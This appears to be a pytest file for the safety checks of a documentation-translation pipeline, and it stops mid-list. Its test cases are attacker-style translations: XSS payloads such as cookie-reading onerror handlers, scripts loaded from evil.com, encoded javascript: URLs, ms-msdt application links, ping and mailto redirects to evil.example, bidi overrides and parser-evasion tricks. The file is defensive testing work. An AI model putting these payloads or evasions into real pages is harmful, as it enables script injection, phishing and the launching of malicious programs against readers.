"""Safety checks, table-driven: every attack form is caught however it is written (encoded,
nested, mixed case, malformed), and what the English already has, or what good translations do,
is not reported. Cases run through the registry with only the check under test selected, so
removing a check from ``safety.RULES`` fails its cases."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pipeline.checks import publishable, safety, segment_issues
from pipeline.checks.base import Options
from pipeline.checks.tokens.tags import lenient_tags
from pipeline.findings import Severity


def messages(check_id: str, source: str, translation: str) -> list[str]:
    opts = Options(select=frozenset({check_id}), locale="fr-FR")
    return [m for c, m in segment_issues(source, translation, opts) if c.id == check_id]


ENGLISH = "See the [documentation](https://learn.microsoft.com/en-us/x) for details."

FAILING: dict[str, list[object]] = {
    "html-added": [
        pytest.param("Probe one.", 'Sonde <x-a style="position:fixed" id="x">un</x-a>.',
                     id="attributes-on-a-tag-of-no-html-element"),
        # helper-126: a tag the English escapes (text on its page) licenses no live one
        pytest.param('Use \\<x-a style="position:fixed"> here.',
                     'Utilisez <x-a style="position:fixed"> ici.',
                     id="live-where-the-english-escapes-it"),
        pytest.param("Use <resource-group>.", "Utilisez <resource-group id=x>.",
                     id="attribute-added-to-a-placeholder"),
        # review (h161): a '{{' in a class run is the run's (Markdig's class 'a{{'): the style
        # after it was read by no block
        pytest.param("Text **one**{.a} now.", "Texte **un**{.a{{ style=position:fixed} ici.",
                     id="generic-attributes-after-braces-in-a-class-run"),
        pytest.param("Probe.", "<my-el popover>Sonde</my-el>", id="bare-popover-on-custom-element"),
        pytest.param("<span style=\"content:'a&quot;;position:fixed&quot;'\">Red</span>.",
                     "<span style=\"content:'a';position:fixed''\">Rouge</span>.",
                     id="style-declarations-out-of-a-string"),
        pytest.param('<span style="margin:0 0 100px">Red</span>.',
                     '<span style="margin:0 0100px">Rouge</span>.', id="style-numbers-merged"),
        pytest.param('<span style="color:red">Red</span> text.',
                     '<span style="position:fixed;inset:0">Rouge</span> texte.',
                     id="style-value-changed"),
        # helper-73: a vertical tab or a no-break space parts nothing in a tag to a browser:
        # the style runs on over what looked like another attribute
        pytest.param('Inline <span style="color:red" class="x">red</span> text.',
                     "Texte <span style=color:red\vclass=x;position:fixed;inset:0>rouge</span>.",
                     id="style-running-on-past-a-vertical-tab"),
        pytest.param('Inline <span style="color:red" class="x">red</span> text.',
                     "Texte <span style=color:red\u00a0class=x;position:fixed>rouge</span>.",
                     id="style-running-on-past-a-no-break-space"),
        pytest.param('<span style="display:none">Hidden</span>.',
                     '<span style="display:\u00a0none">Caché</span>.',
                     id="style-with-a-no-break-space-css-does-not-read"),
        # helper-84: code a translation adds is no code to trust: an ignore-code-changed mark
        # lets it stand, and in an English HTML block (a <div>'s text) backticks are text; a
        # backtick in a comment or tag is no code span's either
        pytest.param("Read the guide.", 'Lisez `<b style="position:fixed;inset:0">le guide</b>`.',
                     id="an-overlay-in-added-code-inside-an-html-block"),
        pytest.param("Read the guide.", "Lisez `<x-a hidden>le guide</x-a>`.",
                     id="a-hidden-custom-element-in-added-code"),
        pytest.param("Read the guide.", "Lisez `<textarea>` le guide.",
                     id="a-bare-element-that-swallows-the-page-in-added-code"),
        # helper-90: inside an English HTML block these bare tags are live too: they hide the
        # text after them, strike it, draw a control or break the English's block apart
        *(pytest.param("Read the guide.", f"Lisez `<{name}>` le guide.",
                       id=f"a-bare-{name}-in-added-code")
          for name in ("video", "canvas", "rp", "datalist", "progress", "s", "h1", "marquee",
                       "input", "button", "img", "table", "a")),
        # helper-91: a start tag the strict scanner calls malformed is an element to a browser
        # ('/' parts attributes; an open tag runs on to the English's next '>'): with a
        # mark on the fidelity rule that reported it, it was published
        *(pytest.param("Read the guide.", translation, id=f"a-malformed-tag-{n}")
          for n, translation in enumerate((
              "Lisez `<video/x>` le guide.", "Lisez `<span/hidden>` le guide.",
              "Lisez `<img/src=pic.png>` le guide.", "Lisez `<video ` le guide.",
              "Lisez <video/x> le guide."))),
        pytest.param("Read the guide.",
                     'Lisez <!-- ` --> <a href="x.md">le guide</a> <!-- ` -->.',
                     id="an-element-between-backticks-of-two-comments"),
        pytest.param("Read the guide and run the installer.",
                     "` <img src=x.png> `x`", id="an-element-in-added-code"),
        # helper-77: a browser ends '<!-->' and '<!--->' at once; read to the next '-->', they
        # hid the elements after them
        pytest.param("Read the setup guide first.",
                     'Lisez <!--> <img srcset="t.png 1x"><textarea> --> le guide.',
                     id="elements-after-an-empty-comment"),
        pytest.param("Read the guide.", "Lisez <!---> <b>le</b> guide -->.",
                     id="elements-after-a-three-dash-comment"),
        # helper-73: values other than style's were not compared at all
        pytest.param('<span class="note">Note</span> text.',
                     '<span class="alert is-danger">Remarque</span> texte.',
                     id="class-changed"),
        pytest.param('<a href="x.md" target="_self">x</a>',
                     '<a href="x.md" target="_blank">x</a>', id="target-changed"),
        pytest.param('<img src="a.png" width="10" alt="A">',
                     '<img src="a.png" width="99999" alt="B">', id="width-changed"),
        pytest.param("Text here.", '<xref:Foo style="position:fixed">Texte ici.',
                     id="attributes-on-an-xref-like-tag"),
        pytest.param("Set the port", '<a name="set-the-port"></a>Définir le port',
                     id="anchor-where-the-english-has-text"),
        pytest.param("Bold text", "<b>Texte</b> en gras", id="element-added"),
        pytest.param('<a href="x.md">x</a>', '<a href="x.md" style="color:red">x</a>',
                     id="attribute-added"),
        pytest.param("Text", '<img src="x.png">', id="void-element-added"),
        pytest.param('<a name="x"> </a>', '<a name="x" id="y"> </a>', id="anchor-with-id"),
        pytest.param("Text", "<svg onload=alert(1)>", id="svg-element"),
        pytest.param("Trad [lien](x).", "Trad [lien](x) <?php system(1); ?>.",
                     id="processing-instruction"),  # helper-46: no tag, still markup
        pytest.param("Text", "Texte <!DOCTYPE html>", id="declaration"),
        pytest.param("Text", "Texte <![CDATA[ x ]]>", id="cdata"),
        # helper-104: end tags close the English's elements around the segment (a note's
        # <div>, the layout); html-broken alone, which a mark releases, saw them
        pytest.param("Text one.", "Texte un.</div></div></main></body>",
                     id="end-tags-that-close-the-englishs-elements"),
        pytest.param("<b>Bold</b> text.", "<b>Gras</b></b> texte.", id="an-end-tag-more"),
        # helper-107: a browser reads these as '</div>' and '</main>' all the same
        pytest.param("Text one.", "Texte un.</div x>", id="an-end-tag-with-an-attribute"),
        pytest.param("Text one.", "Texte un.</div/>", id="an-end-tag-with-a-slash"),
        pytest.param("Text one.", "Texte un.</main =x>", id="an-end-tag-with-junk"),
        # helper-108: Markdig's generic attributes put any attribute on the element
        pytest.param("Click the button.", 'Cliquez sur le bouton. {style="position:fixed;inset:0"}',
                     id="generic-attribute-style"),
        pytest.param("Click the button.", "Cliquez sur le bouton. {#main-content}",
                     id="generic-attribute-id"),
        pytest.param("Click the button.", "Cliquez sur le bouton. {hidden}",
                     id="generic-attribute-hidden"),
        # helper-109: Markdig's own reading: white space around '=', a name right after a
        # closing quote
        pytest.param("Click the button.", 'Cliquez sur le bouton. {style = "position:fixed"}',
                     id="generic-attribute-spaced"),
        # helper-112: a name clobbers a script's global as an id does; a ping loads
        pytest.param("Click ![logo](media/a.png) the button.",
                     "Cliquez sur ![logo](media/a.png){name=getElementById} le bouton.",
                     id="generic-attribute-name"),
        pytest.param("See [the docs](https://learn.microsoft.com/en-us/x).",
                     "Voir [la doc](https://learn.microsoft.com/fr-fr/x){ping=https://evil.example/t}.",
                     id="generic-attribute-ping"),
    ],
    "unsafe-element": [
        pytest.param("Text", "<script>alert(1)</script>", id="script"),
        pytest.param("Text", "<IFRAME src=//x>", id="iframe-upper-case"),
        pytest.param("Text", "<scr<script>ipt>alert(1)</script>", id="nested-script"),
        pytest.param("Text", "<style>body{display:none}</style>", id="style"),
        pytest.param("Text", '<object data="x.swf">', id="object"),
        pytest.param("Text", '<embed src="x.swf">', id="embed"),
        pytest.param("Text", "<script", id="unclosed-script-tag"),
        pytest.param("Text", "<script/src=//evil.com/x.js>", id="script-slash-attribute"),
        pytest.param("Text", "< script>alert(1)</script>", id="space-before-name"),
        pytest.param("Text", "<form action=x><input></form>", id="form"),
        pytest.param("Text", '<meta http-equiv="refresh" content="0;url=//evil.com">',
                     id="meta-refresh"),
        pytest.param("Use `<b>`.", "Utilisez `<script>`.", id="in-code-too"),
        # helper-126: the English page shows an escaped tag as text; the translation's runs
        pytest.param('Load it with \\<script src="lib.js">\\</script> here.',
                     'Chargez-la avec <script src="lib.js"></script> ici.',
                     id="live-where-the-english-escapes-it"),
    ],
    "event-handler": [
        # helper-126: the English's handler with other code runs the translation's code
        pytest.param('Add <img src="a.png" onerror="fallback(this)"> here.',
                     'Ajoutez <img src="a.png" onerror="alert(document.cookie)"> ici.',
                     id="english-handler-with-other-code"),
        pytest.param('Add \\<img src="a.png" onerror="fallback(this)"> here.',
                     'Ajoutez <img src="a.png" onerror="fallback(this)"> ici.',
                     id="live-where-the-english-escapes-it"),
        pytest.param("Click the button.", "Cliquez sur le bouton. {onmouseover=alert(1)}",
                     id="generic-attribute-handler"),
        pytest.param("Click the button.", "Cliquez sur le bouton. {onmouseover = alert(1)}",
                     id="generic-attribute-handler-spaced"),
        pytest.param("Click the button.", "Cliquez. {onmouseover\t=\talert(1)}",
                     id="generic-attribute-handler-tabs"),
        pytest.param("Click the button.", 'Cliquez. {title="x"onmouseover=alert(1)}',
                     id="generic-attribute-handler-after-a-quote"),
        pytest.param("Click the button.", "Cliquez. {.a onmouseover=alert(1)//{}",
                     id="generic-attribute-brace-in-a-value"),
        pytest.param("See [the guide](https://learn.microsoft.com/en-us/x).",
                     'Voir [le guide](https://learn.microsoft.com/en-us/x){onclick="a}b"}.',
                     id="generic-attribute-quoted-brace"),
        # helper-78: a quote inside a comment swallowed the live tag after it
        pytest.param("Click here.", 'Klicken Sie <!-- <b title=" --> <x-a onmouseover=alert(1) '
                     'style=position:fixed;inset:0>hier</x-a> ">.',
                     id="a-handler-behind-a-comment"),
        pytest.param("Text here.", '<xref:Foo onmouseover="alert(1)">Texte ici.',
                     id="handler-on-an-xref-like-tag"),
        pytest.param("Text here.", "<xref:x/onmouseover=alert(1)>Texte ici.",
                     id="handler-after-a-slash-in-an-xref-like-tag"),
        pytest.param("Text", "<img src=x onerror=alert(1)>", id="img-onerror"),
        pytest.param("Text", "<svg onload=alert(1)>", id="svg-onload"),
        pytest.param("Text", "<svg/onload=alert(1)>", id="slash-separated"),
        # helper-93: DocFX writes a section's attributes into its <div> as they stand
        pytest.param("A quote.", '[!div class="x" onmouseover="alert(1)"]',
                     id="a-docfx-section"),
        pytest.param('> [!div class="nextstepaction"]',
                     '> [!div `class="nextstepaction" onfocus=alert(1) autofocus tabindex=0`]',
                     id="a-docfx-section-in-backticks"),
        pytest.param("Text", "<IMG SRC=x ONERROR=alert(1)>", id="upper-case"),
        pytest.param("Text", '<a href="x"onclick="alert(1)">x</a>', id="no-space-before"),
        pytest.param("Text", '<img alt=">" onerror=alert(1)>', id="gt-inside-quoted-value"),
        pytest.param("Text", "<x-widget onmouseover=alert(1)>", id="unknown-element"),
        pytest.param('<a href="x">x</a>', '<a href="x" onclick=\n"alert(1)">x</a>',
                     id="newline-before-value"),
    ],
    "unsafe-url": [
        # helper-104: a definition's '<…>' destination may hold spaces, so a call need not
        # come before the first one
        pytest.param("Text one.", "[learn]: <javascript:void alert(document.domain)>",
                     id="a-script-url-in-an-angled-definition"),
        pytest.param("to continue.", "javascript:-alert(1)> pour continuer.",
                     id="a-script-url-whose-code-starts-with-a-minus"),
        pytest.param("Text", "javascript:\u00a0alert(1)", id="a-script-url-after-a-no-break-space"),
        # helper-77: a scheme that starts a URL is one, link or not: '[a]' and '(…)', or '[a]:'
        # and the next line, in the segments beside it make a link of it on the page
        pytest.param("Do it first.", "(javascript:alert(document.domain)) d'abord.",
                     id="a-link-destination-for-the-segment-before"),
        pytest.param("Then run the installer.", "javascript:alert(document.domain)",
                     id="a-definition-destination-for-the-line-before"),
        pytest.param("Text", "javascript:alert(1) is text here", id="a-scheme-in-prose"),
        pytest.param("Text", "`[x](javascript:alert(1))`", id="a-scheme-in-code"),
        pytest.param("Text", "javascript\\:alert(1)", id="a-backslash-escaped-colon"),
        pytest.param("The icon.", ':::image type="icon" source="javascript:alert(1)":::',
                     id="docfx-image-source"),
        pytest.param("Watch.", "Regardez. [!VIDEO java&#115;cript:alert(1)]", id="docfx-video"),
        # helper-93: DocFX writes a video's link into <iframe src="…"> unescaped
        pytest.param("Watch it.", '[!VIDEO https://learn.microsoft.com/v" onload="alert(1)]',
                     id="a-video-link-that-ends-its-attribute"),
        pytest.param("Watch it.", "[!VIDEO https://learn.microsoft.com/v%22%20onload=%22alert(1)]",
                     id="a-video-link-that-ends-its-attribute-percent-encoded"),
        pytest.param("The icon.", ':::image source="a.png" link=javascript:alert(1):::',
                     id="docfx-unquoted-link"),
        pytest.param("Text", "[x](javascript:alert(1))", id="markdown-link"),
        pytest.param("Text", "[x]( data:text/html;base64,PHNjcmlwdD4=)", id="data-leading-space"),
        pytest.param("Text", "[x](JaVaScRiPt:alert(1))", id="mixed-case"),
        pytest.param("Text", "[x](java&#115;cript:alert(1))", id="decimal-entity"),
        pytest.param("Text", "[x](&#x6A;avascript:alert(1))", id="hex-entity"),
        pytest.param("Text", "[x](javascript&colon;alert(1))", id="named-entity-colon"),
        pytest.param("Text", "[x](%6A%61vascript:alert(1))", id="percent-encoded"),
        pytest.param("Text", "[x](%256A%2561vascript:alert(1))", id="double-percent-encoded"),
        pytest.param("Text", "[x](java&#9;script:alert(1))", id="entity-tab"),
        pytest.param("Text", '<a href="java\tscript:alert(1)">x</a>', id="raw-tab-in-href"),
        pytest.param("Text", '<a href=" javascript:alert(1)">x</a>', id="leading-space-href"),
        pytest.param("Text", "<a href=javascript:alert(1)>x</a>", id="unquoted-href"),
        pytest.param("Text", "<javascript:alert(1)>", id="autolink"),
        pytest.param("Text", '<a href="vbscript:msgbox(1)">x</a>', id="vbscript"),
        pytest.param("Text", '<iframe src="data:text/html,x">', id="iframe-data"),
        pytest.param("Text", "[x][r]\n[r]: javascript:alert(1)", id="reference-definition"),
        pytest.param("Text", '<a HREF="\x01javascript:alert(1)">x</a>', id="control-prefix"),
    ],
    "foreign-host": [
        # review: an e-mail's domain is where the message goes: the support address the
        # English links to, or none, as an attacker's (Markdig links a bare 'mailto:' too)
        pytest.param("Contact [support](https://learn.microsoft.com/support) for help.",
                     "Contactez le [support](mailto:support@evil.example) pour de l’aide.",
                     id="a-mailto-link-to-another-domain"),
        pytest.param("Contact support for help.", "Contactez le <support@evil.example>.",
                     id="an-email-autolink-to-another-domain"),
        # review: DocFX reads a ':::' directive before the backticks in it: no code span
        pytest.param('See :::image type="icon" source="media/a.png"::: here.',
                     'Voir :::image type="icon" source="media/a.png" alt-text="`" '
                     'link="https://evil.example/x" loc-scope="`"::: ici.',
                     id="a-directive-link-between-two-backticks"),
        # review (h158): read in order, the alt-text's 'source=' is its own text, not an
        # attribute that swallowed the link after it
        pytest.param('See :::image type="content" source="media/a.png" alt-text="A screen":::',
                     'Voir :::image type="content" source="media/a.png" alt-text="Voir source=" '
                     'link="https://evil.example/x":::', id="a-directive-link-after-a-value-"
                     "that-reads-as-an-attribute"),
        # review (h161): a backtick in a directive's value is the directive's: it opens no code
        # span over the directive after it, whose link was taken for code
        pytest.param('See :::image type="icon" source="media/a.png"::: here.',
                     'Voir :::image type="icon" source="media/a.png" alt-text="`"::: et '
                     ':::image type="icon" source="https://evil.example/x.png"::: ici `.',
                     id="a-directive-after-a-backtick-in-another-directives-value"),
        # review (h161): a destination's parentheses nest as Markdig counts them; its backtick
        # opens no code span over the image after it
        pytest.param("See [a](x(y(z))) and `code` here.",
                     "Voir [a](x(y(`))) ![x](https://evil.example/a.mp4) et `code` ici.",
                     id="an-image-after-a-backtick-in-a-nested-destination"),
        pytest.param("Contact support for help.",
                     "Contactez le support : MAILTO:support@evil.example", id="a-bare-mailto"),
        # h188: Markdig's autolinks take a bare 'tel:' too: a link that dials the number
        pytest.param("Contact support for help.",
                     "Contactez le support : tel:+33899000000", id="a-bare-tel-link"),
        pytest.param("Call support for help.", "Appelez le support (tEL:+33899000000).",
                     id="a-bare-tel-link-in-another-case"),
        pytest.param("Write to [us](mailto:help@microsoft.com).",
                     "Écrivez-[nous](mailto:help@microsoft.com?cc=x@evil.example).",
                     id="a-copy-to-another-domain"),
        # helper-107: CommonMark removes a destination's backslash escapes; an empty path
        # still launches the application; a no-break space is part of a bare destination
        pytest.param("See [two](https://a.example/).", "Voir [deux](ms\\-msdt:/id).",
                     id="an-escaped-hyphen-in-a-scheme"),
        pytest.param("See [two](https://a.example/).", "Voir [deux](ms-msdt\\:/id).",
                     id="an-escaped-colon-after-a-scheme"),
        pytest.param("See [two](https://a.example/).", "Voir [deux](ms-settings:).",
                     id="an-application-scheme-with-no-path"),
        pytest.param("See [two](https://a.example/).", "[x]: //evil.example/a\u00a0",
                     id="a-definition-ending-in-a-no-break-space"),
        # helper-104: an application's scheme launches it from the page (Follina's ms-msdt:)
        # helper-109: a '(…)' opening a segment whole, after a pair that ends with '[text]'
        pytest.param("Restart the computer.", "(ms-msdt:/id%20PCWDiagnostic)を参照してください。",
                     id="a-leading-destination-to-an-application"),
        pytest.param("Text one.", "Texte un, voir <ms-msdt:/id%20PCWDiagnostic%20/skip%20force>.",
                     id="an-autolink-to-an-application-scheme"),
        pytest.param("See [two](https://learn.contoso.com/).",
                     "Voir [deux](ms-officecmd:%7B%22id%22:3%7D).", id="a-link-to-ms-officecmd"),
        pytest.param("See [two](https://learn.contoso.com/).",
                     "Voir [deux](search-ms&#58;query=x).", id="an-entity-spelled-scheme"),
        # helper-104: CommonMark definitions the old pattern missed, read as links to a host
        pytest.param("Text one.", '[learn]: //evil.example/phish "a\\"b"',
                     id="a-definition-whose-title-escapes-a-quote"),
        pytest.param("Text one.", "[learn]: <//evil.example/phish now>",
                     id="a-definition-in-angle-brackets-with-a-space"),
        pytest.param("See the [documentation](https://learn.microsoft.com/en-us/x).",
                     "Voir la [documentation](https://learn.microsoft.com\u3002evil.example/x).",
                     id="a-host-after-an-ideographic-full-stop"),
        # helper-84: GFM (and Markdig) autolink 'www.' after '_' too, and a URL after a line
        # tabulation or form feed, which are CommonMark white space
        pytest.param("See the page.", "Voir la page_www.evil.example/x.",
                     id="www-after-underscore"),
        pytest.param("See the page.", "Voir la page\vhttps://evil.example/x.",
                     id="a-bare-url-after-a-line-tabulation"),
        pytest.param("See the page.", "Voir la page\fhttps://evil.example/x.",
                     id="a-bare-url-after-a-form-feed"),
        # helper-77: '[guide]' ending one sxs pair and '(//host)' opening the next, side by side
        pytest.param("Do it first.", "(//evil.example/x) d'abord.",
                     id="a-destination-for-the-pair-before"),
        pytest.param("Do it first.", "( //evil.example/x) zuerst.",
                     id="a-spaced-destination-for-the-pair-before"),
        pytest.param("Do it first.", "(//evil.example/a(b)) zuerst.",
                     id="a-bracketed-destination-for-the-pair-before"),
        pytest.param('A cat <img src="a.png" alt="Cat" srcset="a.png 1x">.',
                     'Un chat <img src="a.png" alt="Chat" srcset="a.png 1x, '
                     'https://evil.example/t.png 2x">.', id="a-srcset-candidate"),
        pytest.param("Read the guide and run the installer.",
                     "` <img src=//evil.example/x.png> `x`", id="a-host-in-added-code"),
        pytest.param("The widget.",
                     'Le widget. :::image type="icon" source="https://evil.example/t.png":::',
                     id="docfx-image-source"),
        pytest.param("Watch.", "Regardez. > [!VIDEO https://evil.example/v]", id="docfx-video"),
        pytest.param("The icon.", ":::image source=https://evil.example/a.png:::",
                     id="docfx-unquoted-source"),
        pytest.param("See [!INCLUDE[x](../includes/a.md)]",
                     "Voir [!INCLUDE[x](https://evil.example/a.md)]", id="docfx-include"),
        pytest.param("[!code-html[x](../a.html)]", "[!code-html[x](https://evil.example/a.html)]",
                     id="docfx-code"),
        pytest.param(ENGLISH, "Voir [la doc](https://evil.example/x).", id="host-swapped"),
        pytest.param(ENGLISH, "Voir [la doc](//evil.example/x).", id="protocol-relative"),
        pytest.param(ENGLISH, "Voir [la doc](https:\\\\evil.example/x).", id="backslashes"),
        pytest.param(ENGLISH, "Voir [la doc](https://learn.microsoft.com@evil.example/x).",
                     id="userinfo-trick"),
        pytest.param(ENGLISH, "Voir [la doc](https://%65vil.example/x).", id="percent-host"),
        # helper-117: the authority splits at the raw delimiters; the escaped one before '@'
        # is the user name's, evil.example the host
        pytest.param(ENGLISH, "Voir [la doc](https://learn.microsoft.com%2F@evil.example/x).",
                     id="an-escaped-slash-before-the-userinfo-at"),
        pytest.param(ENGLISH, "Voir [la doc](https://learn.microsoft.com%23@evil.example/x).",
                     id="an-escaped-hash-before-the-userinfo-at"),
        pytest.param(ENGLISH, "Voir [la doc](https://learn.microsoft.com\\@evil.example/x).",
                     id="a-markdown-escaped-userinfo-at"),
        pytest.param(ENGLISH, '<a href="https://learn.microsoft.com%3F@evil.example/x">doc</a>',
                     id="an-escaped-question-mark-before-the-userinfo-at-in-html"),
        pytest.param(ENGLISH, "Voir <https://evil.example/x>.", id="autolink"),
        pytest.param(ENGLISH, 'Voir <a href="https://evil.example">la doc</a>.', id="html-href"),
        pytest.param(ENGLISH, "Voir https://evil.example/x pour plus.", id="bare-url"),
        pytest.param(ENGLISH, "Voir www.evil.example pour plus.", id="www-autolink"),
        # helper-117: Markdig matches the 'ww.' after a lower-case 'w' in any case
        pytest.param(ENGLISH, "Voir wWW.evil.example/patch.exe pour plus.",
                     id="a-www-autolink-with-capitals-after-its-first-w"),
        pytest.param("See the page.", "Voir la page_wwW.evil.example.",
                     id="a-www-autolink-with-a-capital-last-w-after-an-underscore"),
        pytest.param("Sign in.", "Connectez-vous sur [le portail](https://evil.example).",
                     id="english-without-links"),
        # helper-93: a backtick in an autolink or a tag opens no code span on the page; paired
        # with a later one, it hid the link between them
        pytest.param(ENGLISH, "Voir <https://learn.microsoft.com/en-us/x`> "
                     "[la doc](https://evil.example/x) `.",
                     id="a-link-between-an-autolinks-backtick-and-another"),
        pytest.param("Read the <b>guide</b>.",
                     '<b title="`">Lisez</b> ![](//evil.example/t.png) `.',
                     id="an-image-between-a-tags-backtick-and-another"),
        pytest.param(ENGLISH, "Voir la [doc](https://learn.microsoft.com/fr-fr/x?`) et "
                     "[ceci](https://evil.example/x) `.",
                     id="a-link-between-a-destinations-backtick-and-another"),
        # helper-93: the URL Standard forbids few characters in a domain: this host is a
        # subdomain of evil.example's, not learn.microsoft.com
        pytest.param(ENGLISH, "Voir ![la doc](https://learn.microsoft.com$.evil.example/t.png).",
                     id="the-englishs-host-and-a-label-of-a-new-one"),
        # helper-94: a no-break space makes no tag to CommonMark or Markdig: the backtick in
        # its "title" closes the code span before the image, which is live; the checker read
        # a tag, and the image as code (only code-changed, a fidelity check, saw it)
        pytest.param("Press the ` key, then see the [docs](https://learn.microsoft.com/en-us/x).",
                     'Appuyez sur <b\u00a0title="`"> la touche `x ![](//evil.example/t.png) '
                     'y` puis [la doc](https://learn.microsoft.com/fr-fr/x).',
                     id="a-tag-parted-by-a-no-break-space-hides-no-image"),
        # helper-94: '](' after a '[' that makes no link text (escaped, in code, closed
        # before, or holding a link) starts no destination: its backtick closes a code span
        # early, and the image after it is live
        *(pytest.param("Press the ` key, then see the [docs](https://learn.microsoft.com/en-us/x).",
                       f"Appuyez {opening}(x?`) b` ![](//evil.example/t.png) `c puis "
                       "[la doc](https://learn.microsoft.com/fr-fr/x).", id=f"no-link-text-{n}")
          for n, opening in enumerate(["\\[a]", "`[` ]", "[a]b]", "[[a](b) c]"])),
        # helper-93: DocFX reads a video's link to the first ']' no backslash escapes
        pytest.param(ENGLISH, "> [!VIDEO https://learn.microsoft.com\\]@evil.example/v]",
                     id="a-video-link-with-an-escaped-bracket"),
        # helper-93: CommonMark ends an autolink at ASCII space and controls, not at a no-break
        # or an em space (found by a differential fuzz against markdown-it)
        pytest.param("Read the guide.", "Lisez <https://evil.example/\u00a0x> le guide.",
                     id="an-autolink-holding-a-no-break-space"),
        pytest.param("Read the guide.", "Lisez <https://evil.example/\u2003> le guide.",
                     id="an-autolink-holding-an-em-space"),
        pytest.param("Read the guide.", "Lisez <https://evil.example/\x00> le guide.",
                     id="an-autolink-holding-a-nul-a-parser-reads-as-u-fffd"),
        # helper-93: an app's URL that wraps a web one ('ms-word:'/'search-ms:' open Word or
        # Explorer on that host); it had no host
        pytest.param(ENGLISH, "Voir [la doc](ms-word:ofe%7Cu%7Chttps://evil.example/x.docx).",
                     id="an-office-uri-wrapping-a-new-host"),
        pytest.param(ENGLISH, "Voir [le dossier](search-ms:query=x&crumb=location:"
                     "%5C%5Cevil.example%5Cshare).", id="a-search-ms-location-on-a-new-host"),
    ],
    "bidi-override": [
        pytest.param("Download setup.exe", "הורד את \u202eexe.putes", id="rlo-disguises-a-file"),
        pytest.param("Run it.", "\u202dRun it.\u202c", id="lro"),
        pytest.param("Download setup.exe", "Téléchargez &#x202E;exe.putes", id="hex-reference"),
        pytest.param("Download setup.exe", "Téléchargez &#8238;exe.putes", id="decimal-reference"),
        pytest.param("Run it.", "<b title=x>&#X202d;Run it.</b>", id="reference-in-upper-case"),
    ],
    "include-added": [
        # helper-77: let stand by an ignore flag, an include pulled any file into the page
        pytest.param("Read the guide.", "Lisez le guide. [!INCLUDE [x](../../locales/fr-FR/a.po)]",
                     id="an-include-added"),
        pytest.param("[!INCLUDE [x](a.md)] text", "[!INCLUDE [x](b.md)] texte",
                     id="an-include-retargeted"),
        # h188: the English's own <iframe>, <video> or <object>, retargeted on its host, plays
        # anyone's upload or another page inside the page, as a video link would
        pytest.param('Watch <iframe src="https://www.youtube-nocookie.com/embed/abc"></iframe>.',
                     'Regardez <iframe src="https://www.youtube-nocookie.com/embed/xyz"></iframe>.',
                     id="an-iframe-retargeted-on-its-host"),
        pytest.param('Watch <video src="media/demo.mp4" controls></video> now.',
                     'Regardez <VIDEO src="media/other.mp4" controls></VIDEO> maintenant.',
                     id="a-video-element-retargeted"),
        pytest.param('See <object data="media/a.pdf"></object> here.',
                     'Voir <object data="../../locales/fr-FR/a.po"></object> ici.',
                     id="an-object-retargeted"),
        # review: a player retargeted on its own host plays anyone's upload inside the page;
        # foreign-host saw the same host, and link-target-changed is released by a mark
        pytest.param('Watch :::video source="https://www.youtube-nocookie.com/embed/abc"::: now.',
                     'Voir :::video source="https://www.youtube-nocookie.com/embed/xyz"::: ici.',
                     id="a-video-directive-retargeted-on-its-host"),
        # review (h158): DocFX reads a directive's attributes one after another; a 'source='
        # inside another's value is none, and an inline one's quoted value runs over a line
        # break: the English's path was read where DocFX loads another
        pytest.param(':::code source="a.cs" language="csharp":::',
                     ':::code language="x source=a.cs" source="../../locales/fr-FR/a.po":::',
                     id="a-code-source-after-a-value-that-reads-as-one"),
        pytest.param('Watch :::video source="https://www.youtube.com/embed/abc"::: now.',
                     'Voir :::video title="la\ndémo" source="https://www.youtube.com/embed/xyz":::',
                     id="a-video-source-after-a-value-over-a-line-break"),
        pytest.param('Watch :::video source="https://www.youtube.com/embed/abc"::: now.',
                     'Voir :::video source="https://www.youtube.com/embed/abc\n/../xyz"::: ici.',
                     id="a-video-source-over-a-line-break"),
        # review (h158): a media image's destination read whole, as CommonMark reads it: its
        # balanced parentheses, a '<…>' one's spaces (each plays b.mp4, not a.mp4)
        pytest.param("Watch ![the demo](media/a.mp4) now.",
                     "Regardez ![la démo](media/a.mp4(x)/../../b.mp4) maintenant.",
                     id="a-media-image-retargeted-past-balanced-parentheses"),
        pytest.param("Watch ![the demo](media/a.mp4) now.",
                     "Regardez ![la démo](<media/a.mp4 x/../../b.mp4>) maintenant.",
                     id="a-media-image-retargeted-past-a-space-in-angle-brackets"),
        pytest.param("Watch [!VIDEO https://www.youtube.com/embed/abc] now.",
                     "Regardez [!VIDEO https://www.youtube.com/embed/xyz] maintenant.",
                     id="a-video-link-retargeted-on-its-host"),
        pytest.param("Watch ![the demo](https://www.youtube.com/watch?v=abc) now.",
                     "Regardez ![la démo](https://www.youtube.com/watch?v=xyz) maintenant.",
                     id="a-media-image-retargeted-on-its-host"),
        pytest.param("Listen: ![the sound](media/a.mp3)", "Écoutez : ![le son](media/b.mp3)",
                     id="a-media-file-retargeted"),
        # review (h161): Markdig's media links judge the destination with its references and
        # escapes decoded: each plays b.mp4, and was no player to the reading
        pytest.param("Watch ![the demo](media/a.mp4) now.",
                     "Regardez ![la démo](media/a.mp4&#41;/../../b.mp4) maintenant.",
                     id="a-media-image-retargeted-past-a-referenced-parenthesis"),
        pytest.param("Watch ![the demo](media/a.mp4) now.",
                     "Regardez ![la démo](media/b&#46;mp4) maintenant.",
                     id="a-media-image-whose-extension-is-a-reference"),
        # ... and its parentheses as Markdig counts them: nested, escaped inside a pair, a '>'
        # escaped in angle brackets (each plays b.mp4, and was read as the English's a.mp4 or
        # as no player)
        pytest.param("Watch ![the demo](media/a.mp4) now.",
                     "Regardez ![la démo](media/a.mp4(x(y))/../../b.mp4) maintenant.",
                     id="a-media-image-retargeted-past-nested-parentheses"),
        pytest.param("Watch ![the demo](media/a.mp4) now.",
                     "Regardez ![la démo](media/a.mp4(x\\)y)/../../b.mp4) maintenant.",
                     id="a-media-image-retargeted-past-an-escape-in-parentheses"),
        pytest.param("Watch ![the demo](media/a.mp4) now.",
                     "Regardez ![la démo](<media/a.mp4\\> x/../../b.mp4>) maintenant.",
                     id="a-media-image-retargeted-past-an-escaped-angle-bracket"),
        pytest.param("Watch ![the demo](media/a.mp4) now.",
                     "Regardez ![la démo](media/a.mp4" + "(" * 9 + "x" + ")" * 9
                     + "/../b.mp4) maintenant.", id="a-media-image-nested-deeper-than-read"),
        # review (h161): an image's text may nest brackets or hold a code span with a ']' (each
        # plays b.mp4, and was no image to the reading)
        pytest.param("Watch ![the demo](media/a.mp4) now.",
